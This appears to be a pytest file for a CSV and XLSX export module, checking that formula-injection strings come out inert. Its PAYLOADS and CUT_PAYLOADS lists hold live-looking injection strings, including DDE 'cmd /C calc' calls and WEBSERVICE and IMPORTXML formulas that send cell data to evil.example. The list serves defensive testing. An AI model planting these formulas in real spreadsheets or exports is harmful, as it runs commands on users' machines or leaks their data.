"""Downloads: nothing in them runs, nothing in them is lost, equal lists are equal bytes."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import time
import zipfile
from datetime import UTC, date
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from downloads.inert import inert, is_formula, printable
from downloads.tables import CREATED, MOST_CHARACTERS, file_name, to_csv, to_xlsx
from errors import Refused

# From OWASP's page on CSV injection, ASVS 1.2.10, Superset's and our own collection of what broke other exports.
PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "\tharmless",
    "\rharmless",
    "\x00harmless",
    " =1+1",
    "   @SUM(1)",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    '"=1+1',
    '""=1+1""',
    '=HYPERLINK("http://evil.example","click")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"1")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML("http://evil.example","//a")',
    "+1-555-0100",
    "+49/170/1234567",
    "-",
    "--5",
    "+A1",
    "-A1",
    "|calc",
    "%0A=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "={1;2}",
    "=\n1+1",
)
# Cut at ";" or TAB, or at the line's end after a quote, each of these would begin a formula in the middle.
CUT_PAYLOADS = ("a;=1+1", 'a";"=1+1', "a\t=1+1", "a\n=1+1", "a\r\n@SUM(1)", "a; +cmd|' /C calc'!A0", 'x";-1+1;"')
LEFT_ALONE = (
    "Anna",
    "",
    "0012",
    "-5",
    "-12.5",
    "-12,5",
    "+3",
    "1e-5",
    "-1.234,50",
    "+49 170 1234567",
    "+491701234567",
    "+49 (0)30 1234567",
    "+1 555 010 0100",
    "a=b",
    "C++",
    "me@example.org",
    "10 % off; 5 % more",
    "Anna ;-)",
    "'quoted'",
    "Ünïcode 🎉",
    "two\r\nlines",
)


def table_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_cell_that_begins_a_formula_gets_an_apostrophe(payload):
    header, row = table_of(to_csv(pd.DataFrame({payload: [payload], "b": ["x"]})))
    assert header[0].startswith("'")
    assert row[0].startswith("'")
    assert row[0].replace("'", "") == payload.replace("\x00", "").replace("'", "")


@pytest.mark.parametrize("payload", CUT_PAYLOADS)
def test_cell_cut_at_another_separator_begins_no_formula(payload):
    pieces = re.split(r"[;\t\r\n]", inert(payload))
    assert not [piece for piece in pieces if is_formula(piece)]


@pytest.mark.parametrize("text", LEFT_ALONE)
def test_harmless_text_stays_as_it_is(text):
    assert inert(text) == text


def test_csv_begins_with_the_mark_and_ends_each_line_with_crlf():
    content = to_csv(pd.DataFrame({"name": ["Zoë", 'says "hi", twice'], "posts": [3, -4]}))
    assert content == '\ufeffname,posts\r\nZoë,3\r\n"says ""hi"", twice",-4\r\n'.encode()


def test_numbers_days_and_gaps_are_written_for_a_spreadsheet():
    frame = pd.DataFrame(
        {
            "count": [3.0, np.nan],
            "share": [0.25, -1.5],
            "day": [date(2026, 9, 3), None],
            "at": [pd.Timestamp("2026-09-03 14:05", tz=UTC), pd.NaT],
            "staff": [True, np.bool_(False)],
            "gap": [None, pd.NA],
        }
    )
    assert table_of(to_csv(frame))[1:] == [
        ["3", "0.25", "2026-09-03", "2026-09-03 14:05+00:00", "yes", ""],
        ["", "-1.5", "", "", "no", ""],
    ]
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(frame))).active
    day, moment = pd.Timestamp("2026-09-03"), pd.Timestamp("2026-09-03 14:05")
    assert [cell.value for cell in sheet[2]] == [3, 0.25, day, moment, "yes", None]
    assert [cell.value for cell in sheet[3]] == [None, -1.5, None, None, "no", None]


def test_workbook_holds_no_formula_and_no_link():
    payloads = [
        *PAYLOADS,
        *CUT_PAYLOADS,
        "http://evil.example",
        "mailto:a@b.example",
        "internal:Sheet1!A1",
        "external:c.xlsx",
    ]
    content = to_xlsx(pd.DataFrame(dict.fromkeys(payloads[:8], payloads)))
    parts = zipfile.ZipFile(io.BytesIO(content))
    everything = {name: parts.read(name).decode() for name in parts.namelist()}
    sheets = "".join(text for name, text in everything.items() if "worksheets" in name)
    assert "<f>" not in sheets
    assert "<f " not in sheets
    assert "hyperlink" not in sheets.lower()
    assert not [name for name in everything if "externalLink" in name or "worksheets/_rels" in name]
    cells = openpyxl.load_workbook(io.BytesIO(content)).active
    assert {cell.data_type for row in cells.iter_rows() for cell in row} == {"s"}
    assert cells["A2"].value == "=1+1"
    assert cells["A2"].quotePrefix, "editing the cell must not turn it into a formula"


def test_ids_keep_leading_zeros_and_every_digit():
    frame = pd.DataFrame({"member_id": ["0012", "1234567890123456789"], "key": [12, 1234567890123456789]})
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(frame))).active
    assert [cell.value for cell in sheet["A"]] == ["member_id", "0012", "1234567890123456789"]
    assert [cell.value for cell in sheet["B"]] == ["key", 12, "1234567890123456789"]
    assert sheet["A2"].number_format == sheet["B3"].number_format == "@"
    assert [row[0] for row in table_of(to_csv(frame))] == ["member_id", "0012", "1234567890123456789"]


def test_header_stands_out_and_stays_in_sight():
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(pd.DataFrame({"name": ["x" * 30]})))).active
    assert sheet["A1"].font.bold
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width == pytest.approx(32, abs=1)


def test_equal_frames_are_equal_bytes_at_any_time(monkeypatch):
    frame = pd.DataFrame({"name": ["Ann", "=B"], "posts": [1, 2]})
    first = to_xlsx(frame), to_csv(frame)
    now = time.time()
    monkeypatch.setattr(time, "time", lambda: now + 100_000)
    time.sleep(1.1)  # a zip's clock has steps of two seconds, a workbook's of one
    assert (to_xlsx(frame.copy()), to_csv(frame.copy())) == first
    assert openpyxl.load_workbook(io.BytesIO(first[0])).properties.created == CREATED


def test_text_longer_than_a_cell_is_cut_with_a_sign():
    value = openpyxl.load_workbook(io.BytesIO(to_xlsx(pd.DataFrame({"text": ["x" * 40_000]})))).active["A2"].value
    assert len(value) == MOST_CHARACTERS
    assert value.endswith("x…")


def test_more_rows_than_a_sheet_holds_are_refused_with_a_way_out():
    with pytest.raises(Refused, match="CSV"):
        to_xlsx(pd.DataFrame({"a": np.zeros(1_048_576, dtype=np.int8)}))


def test_frame_without_rows_still_has_its_header():
    frame = pd.DataFrame({"name": [], "=id": []})
    assert table_of(to_csv(frame)) == [["name", "'=id"]]
    assert [cell.value for cell in openpyxl.load_workbook(io.BytesIO(to_xlsx(frame))).active[1]] == ["name", "=id"]


def test_file_name_differs_with_the_content_and_names_no_folder():
    assert file_name("../etc/x", "list\r\n", 7, "ab" * 32) == "etc-x-list-0007-abababab.csv"
    assert file_name("a", "list", 7, "cd" * 32) != file_name("a", "list", 7, "ab" * 32)


@settings(max_examples=200, deadline=None)
@given(rows=st.lists(st.lists(st.text(max_size=12), min_size=2, max_size=2), max_size=5))
def test_csv_read_back_is_what_went_in_and_nothing_runs(rows):
    read = table_of(to_csv(pd.DataFrame(rows, columns=["a", "b"], dtype=object)))
    assert read == [["a", "b"], *([inert(cell) for cell in row] for row in rows)]
    assert not [cell for row in read for cell in row if is_formula(cell)]


@settings(max_examples=200, deadline=None)
@given(text=st.text(alphabet="=+-@|%;\t\r\n\"' 1aZ.()\x00", max_size=10))
def test_text_made_inert_is_inert_and_only_gains_apostrophes(text):
    made = inert(text)
    assert not is_formula(made)
    assert made.replace("'", "") == printable(text).replace("'", "")
    assert inert(made) == made, "once is enough"


@settings(max_examples=100, deadline=None)
@given(texts=st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=20), min_size=1, max_size=5))
def test_workbook_read_back_is_what_went_in(texts):
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(pd.DataFrame({"text": texts}, dtype=object)))).active
    read = [sheet.cell(row=number + 2, column=1).value or "" for number in range(len(texts))]
    # Inside a cell every line break is LF, whichever the export had.
    assert read == [re.sub(r"\r\n?", "\n", printable(text)) for text in texts]


def opened_by_libreoffice(folder: Path, name: str, content: bytes) -> list[str]:
    """The first column as LibreOffice shows it after opening the file."""
    (folder / name).write_bytes(content)
    profile = f"-env:UserInstallation=file://{folder}/profile"
    command = ["soffice", "--headless", profile, "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76"]
    if name.endswith(".csv"):
        command.append("--infilter=CSV:44,34,76")  # UTF-8, as its dialog proposes for our byte order mark
    command += ["--outdir", str(folder / "out"), str(folder / name)]
    subprocess.run(command, check=True, timeout=120)
    shown = (folder / "out" / f"{Path(name).stem}.csv").read_text(encoding="utf-8-sig")
    return [row[0] for row in csv.reader(io.StringIO(shown))]


@pytest.mark.skipif(shutil.which("soffice") is None, reason="needs LibreOffice (soffice)")
@pytest.mark.slow
def test_libreoffice_shows_the_text_and_calculates_nothing(tmp_path: Path):
    shown_as_they_are = re.compile(r"[^\s\x00\u200b\ufeff]{2}.*|[^\s\x00\u200b\ufeff]")  # LibreOffice trims blanks
    payloads = [text for text in (*PAYLOADS, "-5", "+49 170 1234567") if shown_as_they_are.fullmatch(text)]
    assert len(payloads) > 20
    frame = pd.DataFrame({"text": payloads, "other": "x"})
    raw = opened_by_libreoffice(tmp_path, "raw.csv", b"text,other\r\n=1+1,x\r\n")
    assert raw == ["text", "2"], "the check itself must see a formula run"
    assert opened_by_libreoffice(tmp_path, "list.csv", to_csv(frame))[1:] == [inert(text) for text in payloads]
    assert opened_by_libreoffice(tmp_path, "book.xlsx", to_xlsx(frame))[1:] == payloads
